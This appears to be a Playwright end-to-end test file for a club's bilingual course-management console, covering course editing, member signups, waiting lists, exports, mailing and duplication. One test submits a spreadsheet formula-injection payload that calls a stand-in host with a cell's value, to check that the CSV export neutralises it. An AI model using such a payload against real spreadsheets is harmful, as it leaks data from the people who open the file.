import fs from 'node:fs';
import { expect, test, type APIRequestContext, type Page } from './support/test.js';
import { registerByApi, storeToken, uniqueEmail } from './support/accounts.js';
import { decodeMail, demo, expectNoA11yViolations, mailsTo, useLanguage } from './support/fixtures.js';
import { type Lang, bearer, iso, openAsAdmin, confirmStatusChange } from './support/console.js';

/*
 * The office console's courses (issue 10, "Courses and signups") in Chromium, in Spanish and in
 * Basque, as the demo administrator: a course with two groups and a signup form (a text question
 * and a required checkbox) is built in the editor; a member enrols from a second browser context
 * and answers the form; the office sees the answer in the signups list, frees the seat and sees
 * the waiting list move, exports an XLSX, mails everyone on the list, unpublishes and publishes
 * the course from the list and duplicates it for next season. The multi-option demo course 106
 * opens in the editor and saves back unchanged. Axe runs on every console page visited.
 */

test.use({ viewport: { width: 1280, height: 900 } });
const LANGS: Lang[] = ['es', 'eus'];

const T = {
  es: {
    newCourse: 'Nuevo curso',
    editCourse: 'Editar curso',
    title: 'Título (Castellano)',
    titleEus: 'Título (Euskera)',
    contentOf: 'Contenido (Castellano)',
    eusTab: 'Texto en euskera',
    start: 'Fecha de inicio',
    end: 'Fecha de fin',
    deadline: 'Último día de inscripción',
    location: 'Lugar',
    addGroup: 'Añadir grupo',
    group: (n: number) => `Grupo ${n}`,
    pool: (n: number) => `Piscina del grupo ${n}`,
    schedule: (n: number) => `Horario del grupo ${n}`,
    seats: (n: number) => `Plazas del grupo ${n}`,
    monday: 'Lunes',
    wednesday: 'Miércoles',
    addQuestion: 'Añadir pregunta',
    questionType: (n: number) => `Tipo de la pregunta ${n}`,
    questionText: (n: number, l: string) => `Pregunta ${n}: texto (${l})`,
    required: (n: number) => `Pregunta ${n} obligatoria`,
    es: 'castellano',
    eus: 'euskera',
    published: 'Publicado en la web',
    save: 'Guardar',
    signupsOf: (t: string) => `Inscripciones de ${t}`,
    assigned: 'Plaza asignada',
    waiting: 'En lista de espera',
    abandoned: 'Abandonada',
    yes: 'Sí',
    xlsx: 'Exportar Excel',
    csv: 'Exportar CSV',
    mail: 'Escribir a todos',
    subject: 'Asunto',
    body: 'Mensaje',
    reaches: 'Le llegará a 1 persona.',
    send: 'Enviar a 1 persona',
    sent: 'Correo enviado a 1 persona.',
    unpublishOf: (t: string) => `Retirar de la web ${t}`,
    publishOf: (t: string) => `Publicar ${t}`,
    duplicateOf: (t: string) => `Duplicar ${t} para la próxima temporada`,
    unpublished: 'Sin publicar',
    multiOption: (n: number) => `Nombre de la opción ${n} (castellano)`,
    addCover: 'Subir portada',
    coverAlt: 'Portada del curso',
    download: (file: string, name: string) => `Descargar ${file} de ${name}`,
  },
  eus: {
    newCourse: 'Ikastaro berria',
    editCourse: 'Editatu ikastaroa',
    title: 'Izenburua (Gaztelania)',
    titleEus: 'Izenburua (Euskara)',
    contentOf: 'Edukia (Euskara)',
    eusTab: 'Euskarazko testua',
    start: 'Hasiera-data',
    end: 'Amaiera-data',
    deadline: 'Izena emateko azken eguna',
    location: 'Lekua',
    addGroup: 'Gehitu taldea',
    group: (n: number) => `${n}. taldea`,
    pool: (n: number) => `${n}. taldearen igerilekua`,
    schedule: (n: number) => `${n}. taldearen ordutegia`,
    seats: (n: number) => `${n}. taldearen plazak`,
    monday: 'Astelehena',
    wednesday: 'Asteazkena',
    addQuestion: 'Gehitu galdera',
    questionType: (n: number) => `${n}. galderaren mota`,
    questionText: (n: number, l: string) => `${n}. galdera: testua (${l})`,
    required: (n: number) => `${n}. galdera derrigorrezkoa`,
    es: 'gaztelania',
    eus: 'euskara',
    published: 'Webgunean argitaratuta',
    save: 'Gorde',
    signupsOf: (t: string) => `${t}: izen-emateak`,
    assigned: 'Plaza esleitua',
    waiting: 'Itxaron-zerrendan',
    abandoned: 'Utzita',
    yes: 'Bai',
    xlsx: 'Esportatu Excel',
    csv: 'Esportatu CSV',
    mail: 'Idatzi guztiei',
    subject: 'Gaia',
    body: 'Mezuaren testua',
    reaches: 'Pertsona 1i iritsiko zaio.',
    send: 'Bidali pertsona 1i',
    sent: 'Mezua pertsona 1i bidali zaio.',
    unpublishOf: (t: string) => `Kendu webgunetik ${t}`,
    publishOf: (t: string) => `Argitaratu ${t}`,
    duplicateOf: (t: string) => `Bikoiztu ${t} hurrengo denboraldirako`,
    unpublished: 'Argitaratu gabe',
    multiOption: (n: number) => `${n}. aukeraren izena (gaztelania)`,
    addCover: 'Igo azala',
    coverAlt: 'Ikastaroaren azala',
    download: (file: string, name: string) => `Deskargatu ${name}(r)en ${file}`,
  },
} as const;

/** The member's side (activities texts). */
const A = {
  es: { signUp: 'Inscribirme', next: 'Siguiente', confirm: 'Confirmar inscripción', ok: '¡Inscripción correcta!' },
  eus: { signUp: 'Eman izena', next: 'Hurrengoa', confirm: 'Berretsi izen-ematea', ok: 'Izen-ematea behar bezala egin da!' },
} as const;

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const PDF = Buffer.from('%PDF-1.4\n%justificante\n');

const nextYear = (d: string) => `${Number(d.slice(0, 4)) + 1}${d.slice(4)}`;
const aside = (page: Page) => page.getByRole('complementary', { name: /Datos de la actividad|Jardueraren datuak/ });

async function login(request: APIRequestContext, email: string, password: string): Promise<string> {
  const res = await request.post('/api/v2/auth/login', { data: { identity: email, password } });
  const body = (await res.json()) as { success: number; data: { token: string } };
  expect(body.success, `login of ${email}`).toBe(1);
  return body.data.token;
}

async function adminGet<T>(request: APIRequestContext, token: string, path: string): Promise<T> {
  const res = await request.get(path, { headers: bearer(token) });
  expect(res.status(), path).toBe(200);
  return ((await res.json()) as { data: T }).data;
}

for (const lang of LANGS) {
  const t = T[lang];
  const a = A[lang];

  test(`a course with two groups and a signup form: enrol with answers, see them, free a seat, export, mail, publish, duplicate (${lang})`, async ({
    page,
    browser,
  }, info) => {
    test.setTimeout(120_000);
    const stamp = `${Date.now().toString(36)}${lang}`;
    const title = `Curso formulario ${stamp}`;
    const titleEus = `Formulario ikastaroa ${stamp}`;
    const shownTitle = lang === 'es' ? title : titleEus;
    const question = { es: 'Color del gorro', eus: 'Txanoaren kolorea' };
    const consent = { es: 'Acepto las normas del cursillo', eus: 'Ikastaroaren arauak onartzen ditut' };
    const proof = { es: 'Justificante de empadronamiento', eus: 'Erroldatze-agiria' };
    const bold = { es: 'Gorro obligatorio', eus: 'Txanoa derrigorrezkoa' };
    const rest = {
      es: ' en todas las sesiones; trae también gafas y una toalla grande para después de la ducha.',
      eus: ' saio guztietan; ekarri betaurrekoak eta dutxaren ondorako eskuoihal handi bat ere.',
    };

    const adminToken = await openAsAdmin(page, lang, '/gestion/cursos/nuevo');
    await expect(page.getByRole('heading', { level: 1, name: t.newCourse })).toBeVisible();
    await page.getByLabel(t.title).fill(title);
    // The detail page's content, written in the rich-text editor in the reader's language.
    const typeContent = async () => {
      const editor = page.getByRole('textbox', { name: t.contentOf, exact: true });
      await editor.click();
      await page.keyboard.press('Control+B');
      await page.keyboard.type(bold[lang]);
      await page.keyboard.press('Control+B');
      await page.keyboard.type(rest[lang]);
    };
    if (lang === 'es') await typeContent();
    await page.getByRole('tab', { name: t.eusTab }).click();
    await page.getByLabel(t.titleEus).fill(titleEus);
    if (lang === 'eus') await typeContent();
    const start = iso(30);
    await page.getByLabel(t.start).fill(start);
    await page.getByLabel(t.end).fill(iso(60));
    await page.getByLabel(t.deadline).fill(iso(25));
    await page.getByLabel(t.location, { exact: true }).fill('Fadura');
    await page.getByRole('button', { name: t.addGroup }).click();
    await page.getByRole('button', { name: t.addGroup }).click();
    await page.getByLabel(t.schedule(1)).fill('17:00-18:00');
    await page.getByLabel(t.seats(1)).fill('1');
    await page
      .getByRole('group', { name: t.group(1), exact: true })
      .getByLabel(t.monday)
      .check();
    await page.getByLabel(t.pool(2)).selectOption('2');
    await page.getByLabel(t.schedule(2)).fill('18:00-19:00');
    await page.getByLabel(t.seats(2)).fill('8');
    await page
      .getByRole('group', { name: t.group(2), exact: true })
      .getByLabel(t.wednesday)
      .check();

    // The signup form: a text question and a required checkbox, in Spanish and Basque.
    await page.getByRole('button', { name: t.addQuestion }).click();
    await page.getByRole('textbox', { name: t.questionText(1, t.es), exact: true }).fill(question.es);
    await page.getByRole('textbox', { name: t.questionText(1, t.eus), exact: true }).fill(question.eus);
    await page.getByRole('button', { name: t.addQuestion }).click();
    await page.getByLabel(t.questionType(2)).selectOption('checkbox');
    await page.getByLabel(t.required(2)).check();
    await page.getByRole('textbox', { name: t.questionText(2, t.es), exact: true }).fill(consent.es);
    await page.getByRole('textbox', { name: t.questionText(2, t.eus), exact: true }).fill(consent.eus);
    await page.getByRole('button', { name: t.addQuestion }).click();
    await page.getByLabel(t.questionType(3)).selectOption('file');
    await page.getByRole('textbox', { name: t.questionText(3, t.es), exact: true }).fill(proof.es);
    await page.getByRole('textbox', { name: t.questionText(3, t.eus), exact: true }).fill(proof.eus);
    // The cover, uploaded from the editor.
    const chooser = page.waitForEvent('filechooser');
    await page.getByRole('button', { name: t.addCover }).click();
    await (await chooser).setFiles({ name: 'portada.png', mimeType: 'image/png', buffer: PNG });
    await expect(page.getByRole('img', { name: t.coverAlt })).toBeVisible();
    // A new course starts unpublished (issue 20, point 9): the office publishes it on purpose.
    await expect(page.getByLabel(t.published)).not.toBeChecked();
    await page.getByLabel(t.published).check();
    await expectNoA11yViolations(page, `course editor with a form (${lang})`);
    await page.getByRole('button', { name: t.save, exact: true }).click();
    await expect(page).toHaveURL(/\/gestion\/cursos$/);

    const courses = await adminGet<{ id: number; slug_es: string; title_es: string }[]>(page.request, adminToken, '/api/admin/courses');
    const course = courses.find((c) => c.title_es === title)!;
    const stored = await adminGet<{
      variants: { poolID: number; max_seating: number; selected_days: number[] }[];
      signup_form_data: { id: string; type: string; required: number; label_es: string; label_eus: string }[];
      cover: { path: string } | null;
    }>(page.request, adminToken, `/api/admin/courses/${course.id}`);
    expect(stored.variants.map((v) => [v.poolID, v.max_seating, v.selected_days])).toEqual([
      [1, 1, [0]],
      [2, 8, [2]],
    ]);
    expect(stored.signup_form_data.map((f) => [f.type, f.required, f.label_es, f.label_eus])).toEqual([
      ['text', 0, question.es, question.eus],
      ['checkbox', 1, consent.es, consent.eus],
      ['file', 0, proof.es, proof.eus],
    ]);
    expect((await page.request.get(stored.cover!.path)).headers()['content-type']).toBe('image/png');

    // A member enrols in the one-seat group from a second browser context and answers the form.
    const memberContext = await browser.newContext({ baseURL: info.project.use.baseURL });
    const memberPage = await memberContext.newPage();
    await useLanguage(memberPage, lang);
    const member = await registerByApi(memberContext.request, { email: uniqueEmail(`curso-${lang}`), lang });
    await storeToken(memberPage, member.token);
    await memberPage.goto(`/actividades/${course.slug_es}`);
    await expect(memberPage.locator('strong', { hasText: bold[lang] })).toBeVisible();
    await aside(memberPage).getByRole('button', { name: a.signUp, exact: true }).click();
    await memberPage.getByRole('radio').first().check();
    await memberPage.getByRole('button', { name: a.next }).click();
    await memberPage.getByRole('textbox', { name: question[lang] }).fill('Gorro rojo');
    await memberPage.getByRole('checkbox', { name: consent[lang] }).check();
    await memberPage.locator('input[type="file"]').setInputFiles({ name: 'justificante.pdf', mimeType: 'application/pdf', buffer: PDF });
    await memberPage.getByRole('button', { name: a.next }).click();
    await memberPage.getByRole('button', { name: a.confirm }).click();
    await expect(memberPage.getByRole('heading', { level: 1, name: a.ok })).toBeVisible();
    await memberContext.close();

    // A second person fills the same group's waiting list (through the API, with the form answered
    // by a formula: the exports must hand it to the office's spreadsheet as text).
    const other = await registerByApi(page.request, { firstName: 'Itsaso', surname: `Zubia ${stamp}` });
    const formula = '=HYPERLINK("http://x.example/?"&C2,"Gorro azul")';
    const form = stored.signup_form_data.map((f) => ({
      ...f,
      inputdata: f.type === 'checkbox' ? true : f.type === 'file' ? null : `${formula}\nGracias`,
    }));
    const waiting = await page.request.post('/api/v2/enroll/do_enroll/', {
      headers: bearer(other.token),
      data: { slug_es: course.slug_es, type: 0, variantIndex: 0, form_data: form },
    });
    expect(await waiting.json()).toMatchObject({ success: 1, data: { status: 3 } });

    // The office sees the answers in the signups list.
    await page.getByLabel(/filtrar|iragazi/i).fill(stamp);
    await page.getByRole('link', { name: t.signupsOf(shownTitle) }).click();
    await expect(page.getByRole('heading', { level: 1 })).toContainText(shownTitle);
    const memberRow = page.getByRole('row').filter({ hasText: member.email });
    const otherRow = page.getByRole('row').filter({ hasText: other.email });
    await expect(memberRow.getByTestId('signup-status')).toHaveText(t.assigned);
    await expect(memberRow.getByTestId('signup-answers')).toContainText(`${question[lang]}: Gorro rojo`);
    await expect(memberRow.getByTestId('signup-answers')).toContainText(`${consent[lang]}: ${t.yes}`);
    await expect(otherRow.getByTestId('signup-status')).toHaveText(t.waiting);
    await expect(otherRow.getByTestId('signup-answers')).toContainText('Gorro azul');
    await expectNoA11yViolations(page, `signups with answers (${lang})`);
    // The member's uploaded file downloads from the list.
    const fileDownload = page.waitForEvent('download');
    await memberRow.getByRole('button', { name: t.download('justificante.pdf', `${member.firstName} ${member.surname}`) }).click();
    const proofFile = await fileDownload;
    expect(proofFile.suggestedFilename()).toBe('justificante.pdf');
    expect((await fs.promises.readFile((await proofFile.path())!)).toString('latin1')).toContain('%PDF-1.4');

    // Freeing the member's seat promotes the waiting list.
    await memberRow.getByRole('combobox').selectOption('4');
    await confirmStatusChange(page, lang);
    await expect(memberRow.getByTestId('signup-status')).toHaveText(t.abandoned);
    await expect(otherRow.getByTestId('signup-status')).toHaveText(t.assigned);

    // The XLSX export is a real workbook (a zip: "PK").
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: t.xlsx }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe(`inscripciones-${course.slug_es}.xlsx`);
    const xlsx = await fs.promises.readFile((await download.path())!);
    expect(xlsx.subarray(0, 2).toString('latin1')).toBe('PK');
    expect(xlsx.length).toBeGreaterThan(1000);
    // The CSV export writes the answer quoted, behind the apostrophe that makes it text.
    const csvDownload = page.waitForEvent('download');
    await page.getByRole('button', { name: t.csv }).click();
    const csvFile = await csvDownload;
    expect(csvFile.suggestedFilename()).toBe(`inscripciones-${course.slug_es}.csv`);
    const csv = (await fs.promises.readFile((await csvFile.path())!)).toString('utf8');
    expect(csv).toContain(`"'${formula.replaceAll('"', '""')}\nGracias"`);
    expect(csv).not.toMatch(/(^|,|\n)=HYPERLINK/);

    // Mail everyone on the list: by default pending, seated and waiting, so only the promoted person.
    await page.getByRole('button', { name: t.mail }).click();
    const dialog = page.getByRole('dialog');
    await expect(dialog.getByTestId('mail-recipients')).toHaveText(t.reaches);
    const subject = `Aviso ${stamp}`;
    await dialog.getByLabel(t.subject).fill(subject);
    await dialog.getByLabel(t.body).fill('Mañana no hay clase.\n\nUn saludo.');
    await expectNoA11yViolations(page, `mail dialog (${lang})`);
    await dialog.getByRole('button', { name: t.send }).click();
    await expect(dialog.getByText(t.sent)).toBeVisible();
    await expect.poll(() => mailsTo(other.email).some((m) => decodeMail(m).includes(subject))).toBe(true);
    await page.keyboard.press('Escape');

    // Unpublish and publish from the list.
    await page.goto('/gestion/cursos');
    await page.getByLabel(/filtrar|iragazi/i).fill(stamp);
    const row = page.getByRole('row').filter({ hasText: shownTitle });
    await row.getByRole('button', { name: t.unpublishOf(shownTitle) }).click();
    await expect(row.getByTestId('published')).toHaveText(t.unpublished);
    expect((await page.request.get(`/api/v2/courses/details/?slug=${course.slug_es}`)).status()).toBe(404);
    await row.getByRole('button', { name: t.publishOf(shownTitle) }).click();
    await expect(row.getByRole('button', { name: t.unpublishOf(shownTitle) })).toBeVisible();
    expect((await page.request.get(`/api/v2/courses/details/?slug=${course.slug_es}`)).status()).toBe(200);
    await expectNoA11yViolations(page, `courses list (${lang})`);

    // Duplicate it for next season: the copy opens in the editor, a year later and unpublished.
    await row.getByRole('button', { name: t.duplicateOf(shownTitle) }).click();
    await expect(page.getByRole('heading', { level: 1, name: t.editCourse })).toBeVisible();
    await expect(page).not.toHaveURL(new RegExp(`/cursos/${course.id}/editar`));
    await expect(page.getByLabel(t.start)).toHaveValue(nextYear(start));
    await expect(page.getByLabel(t.title)).toHaveValue(title);
    await expect(page.getByLabel(t.published)).not.toBeChecked();
    await expect(page.getByRole('textbox', { name: t.questionText(1, t.es), exact: true })).toHaveValue(question.es);
    await expectNoA11yViolations(page, `duplicated course in the editor (${lang})`);
    const copyId = Number(/cursos\/(\d+)\/editar/.exec(page.url())![1]);
    const copySignups = await adminGet<unknown[]>(page.request, adminToken, `/api/admin/courses/${copyId}/signups`);
    expect(copySignups).toEqual([]);
  });

  test(`the multi-option demo course 106 opens in the editor and saves back unchanged (${lang})`, async ({ page }) => {
    const adminToken = await openAsAdmin(page, lang, '/gestion/cursos/106/editar');
    const before = await adminGet<Record<string, unknown>>(page.request, adminToken, '/api/admin/courses/106');
    await expect(page.getByLabel(t.title)).toHaveValue(String((before.translations as { title_es: string }).title_es));
    await expect(page.getByLabel(t.multiOption(1))).not.toHaveValue('');
    await expectNoA11yViolations(page, `editor of course 106 (${lang})`);
    await page.getByRole('button', { name: t.save, exact: true }).click();
    await expect(page).toHaveURL(/\/gestion\/cursos$/);
    const after = await adminGet<Record<string, unknown>>(page.request, adminToken, '/api/admin/courses/106');
    expect(after).toEqual(before);
  });
}

test('the office course calls refuse an unknown course (404) and an empty mail (400)', async ({ page }) => {
  const token = await login(page.request, demo.admin.email, demo.admin.password);
  expect((await page.request.get('/api/admin/courses/99999999', { headers: bearer(token) })).status()).toBe(404);
  const bad = await page.request.post('/api/admin/courses/106/mail', { headers: bearer(token), data: { subject: '', body: 'x' } });
  expect(bad.status()).toBe(400);
});

test('impossible dates and ages, a negative price and a taken web address are named on their fields in Spanish, and nothing is saved (es)', async ({
  page,
}) => {
  test.setTimeout(90_000);
  const stamp = `${Date.now().toString(36)}`;
  const title = `Cursillo imposible ${stamp}`;
  const token = await openAsAdmin(page, 'es', '/gestion/cursos/nuevo');
  const storedWithTitle = async () =>
    (await adminGet<{ title_es: string }[]>(page.request, token, '/api/admin/courses')).filter((c) => c.title_es === title).length;
  const save = () => page.getByRole('button', { name: 'Guardar', exact: true }).click();
  const field = (label: string) => page.getByLabel(label);

  await page.getByLabel('Título (Castellano)').fill(title);
  await field('Fecha de inicio').fill('2027-03-10');
  await field('Fecha de fin').fill('2027-03-01');
  await field('Último día de inscripción').fill('2027-04-01');
  await field('Edad mínima (meses)').fill('120');
  await field('Edad máxima (meses)').fill('60');
  await field('Precio para socios (€)').fill('-5');
  await save();
  // Each rule on its own field, in the page's language; the form stays and nothing is stored.
  await expect(field('Fecha de fin')).toHaveAccessibleDescription(/La fecha de fin no puede ser anterior a la de inicio/);
  await expect(field('Último día de inscripción')).toHaveAccessibleDescription(
    /El último día de inscripción no puede ser posterior a la fecha de fin/,
  );
  await expect(field('Edad máxima (meses)')).toHaveAccessibleDescription(/La edad máxima no puede ser menor que la mínima/);
  await expect(field('Precio para socios (€)')).toHaveAccessibleDescription(/El precio no puede ser negativo/);
  await expect(page.getByText('Revisa este valor')).toHaveCount(0);
  await expect(page).toHaveURL(/\/gestion\/cursos\/nuevo$/);
  expect(await storedWithTitle()).toBe(0);

  // Put right, it saves.
  await field('Fecha de fin').fill('2027-03-31');
  await field('Último día de inscripción').fill('2027-03-05');
  await field('Edad mínima (meses)').fill('60');
  await field('Edad máxima (meses)').fill('120');
  await field('Precio para socios (€)').fill('45');
  await save();
  await expect(page).toHaveURL(/\/gestion\/cursos$/);
  expect(await storedWithTitle()).toBe(1);

  // A second course with the same title would take the same web address: said on the field, in words.
  await page.goto('/gestion/cursos/nuevo');
  await page.getByLabel('Título (Castellano)').fill(title);
  await field('Fecha de inicio').fill('2027-03-10');
  await save();
  await expect(field('Dirección web (castellano)')).toHaveAccessibleDescription(
    /Ya existe un curso con esa dirección web \(castellano\): cambia el título o la dirección/,
  );
  await expect(page.getByText(/office call refused|is taken|slug_es/)).toHaveCount(0);
  await expect(page).toHaveURL(/\/gestion\/cursos\/nuevo$/);
  expect(await storedWithTitle()).toBe(1);
  await expectNoA11yViolations(page, 'course editor with field errors (es)');
});
